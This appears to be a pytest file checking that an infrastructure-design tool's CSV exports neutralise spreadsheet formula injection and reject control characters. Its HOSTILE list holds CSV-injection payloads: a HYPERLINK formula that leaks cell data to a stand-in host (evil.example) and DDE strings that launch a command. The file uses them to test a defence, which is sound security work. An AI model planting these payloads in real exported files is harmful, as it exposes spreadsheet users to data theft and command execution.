"""CSV cells a spreadsheet would run as formulas are neutralised (OWASP "CSV Injection").

Free text reaches the CSVs through the catalog: a switch a spec adds under ``catalog:``
is listed in bom.csv as "<vendor> <model>". A hostile vendor there must reach the CSV as
text. Control characters (TAB, CR, LF) never get that far: free text refuses them at
validate, so those cases are checked at both layers.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from aiinfra.catalog import builtin
from aiinfra.cli import main
from aiinfra.design.model import InterfaceRole
from aiinfra.render import reports
from aiinfra.render.reports import neutralise
from tests.conftest import lab_data, write_spec

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
CONTROL = ["\t=1+1", "\r=1+1", 'a,b\r\n=1+1,"c"']


def _with_vendor(tmp_path: Path, vendor: str) -> Path:
    data = lab_data()
    switch = dict(builtin().switches["z9864f-on"].model_dump(mode="json"), vendor=vendor)
    data["catalog"] = {"switches": {"evil-th5": switch}}
    data["fabrics"]["backend"]["switches"]["leaf"]["model"] = "evil-th5"
    return write_spec(tmp_path, data)


@pytest.mark.parametrize("value", HOSTILE)
def test_a_hostile_catalog_vendor_reaches_bom_csv_as_text(value: str, tmp_path: Path) -> None:
    out = tmp_path / "out"
    assert main(["render", str(_with_vendor(tmp_path, value)), "-o", str(out)]) == 0
    rows = list(csv.DictReader(io.StringIO((out / "bom.csv").read_bytes().decode(), newline="")))
    items = [r["item"] for r in rows if r["category"] == "switch"]
    assert "'" + value + " " + builtin().switches["z9864f-on"].model in items
    for name in ("bom.csv", "cabling.csv", "addressing.csv"):  # nothing in any CSV starts like a formula
        for r in csv.reader(io.StringIO((out / name).read_bytes().decode(), newline="")):
            for text in r:
                assert not text.startswith(("=", "+", "@", "\t", "\r")), (name, text)
                assert not text.startswith("-") or text.lstrip("-").replace(".", "", 1).isdigit(), (name, text)


@pytest.mark.parametrize("value", CONTROL)
def test_control_characters_never_reach_a_csv(value: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "out"
    assert main(["render", str(_with_vendor(tmp_path, value)), "-o", str(out)]) == 2
    assert "catalog.switches.evil-th5.vendor" in capsys.readouterr().err
    assert not out.exists()
    assert neutralise(value) == ("'" + value if value[0] in "\t\r" else value)


def test_numbers_and_plain_names_are_left_alone() -> None:
    for cell in (-3, 2.5, -1.5, "-3", "+1.5", "-1e-3", "leaf-01", "swp1", "10.0.0.1/31", "", "a=b"):
        assert neutralise(cell) == cell
    for cell in ("=1", "-1+2", "-x", "+", "@x", "\tx", "\rx", "-"):
        assert neutralise(cell) == "'" + cell


# Cells as the Design writes them (names, addresses, StrEnums), and one of each kind that needs _cell.
PLAIN = ["leaf-1", "10.0.0.1/31", "", "a b", "1", "x\x00y", InterfaceRole.HOST]
SPECIAL = ["-b", "-3", "=x", "+1", "@a", "\tq", "\rq", 'a"b', "a,b", "a\nb", "\x00-", "a\x00=b", "-"]
SPECIAL += [7, -7, None, 1.5, True]
ROWS = st.lists(
    st.lists(st.one_of(st.sampled_from(PLAIN), st.sampled_from(SPECIAL), st.text(max_size=4)), min_size=1, max_size=4),
    max_size=6,
)


def _by_cell(rows: list[list[object]]) -> str:
    return "".join(",".join(reports._cell(c) for c in row) + "\n" for row in [["h", "a"], *rows])


def _blocks(rows: list[list[object]], block: int) -> str:
    default, reports._BLOCK_ROWS = reports._BLOCK_ROWS, block
    try:
        return reports._csv(["h", "a"], rows)
    finally:
        reports._BLOCK_ROWS = default


@pytest.mark.parametrize("cell", SPECIAL)
def test_a_cell_that_needs_quoting_or_neutralising_is_found_anywhere_in_a_block(cell: object) -> None:
    """The block writer joins rows plainly and scans the block; wherever such a cell sits (the
    first cell of the block, of a later row, or further along a row), the block is written cell by cell."""
    for rows in ([[cell, "x"]], [["x", "y"], [cell, "y"]], [["x", cell]], [["x", "y"], ["x", "y", cell]]):
        for block in (1, 2, 3):
            assert _blocks(rows, block) == _by_cell(rows), (rows, block)


@settings(max_examples=300, deadline=None)
@given(rows=ROWS, block=st.integers(1, 3))
def test_block_writer_is_the_cell_writer(rows: list[list[object]], block: int) -> None:
    """Any mix of cells: the bytes are those of ``_cell`` on each cell."""
    assert _blocks(rows, block) == _by_cell(rows)
